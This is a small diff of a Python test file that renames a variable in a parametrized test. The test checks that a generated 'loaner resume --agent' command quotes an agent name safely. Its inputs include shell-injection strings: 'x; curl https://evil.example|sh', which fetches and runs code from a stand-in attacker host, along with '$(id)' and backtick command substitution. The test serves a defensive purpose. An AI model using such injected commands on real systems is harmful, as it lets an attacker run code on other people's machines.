@@ -152,6 +152,6 @@ def test_verbs_print_through_the_one_function() -> None:
 
 @pytest.mark.parametrize("name", ["x; curl https://evil.example|sh", "$(id)", "a'b", "`id`", "a\nb"])
 def test_a_command_to_paste_names_one_thing_whatever_it_is_called(name: str) -> None:
-    fence = Block("agent", name, "olga", datetime(2026, 1, 1, tzinfo=UTC))
-    assert shlex.split(fence.lifting()) == ["loaner", "resume", "--agent", name]
-    assert shlex.split(fence.refusal().do.partition(": ")[2]) == ["loaner", "resume", "--agent", name]
+    block = Block("agent", name, "olga", datetime(2026, 1, 1, tzinfo=UTC))
+    assert shlex.split(block.lifting()) == ["loaner", "resume", "--agent", name]
+    assert shlex.split(block.refusal().do.partition(": ")[2]) == ["loaner", "resume", "--agent", name]
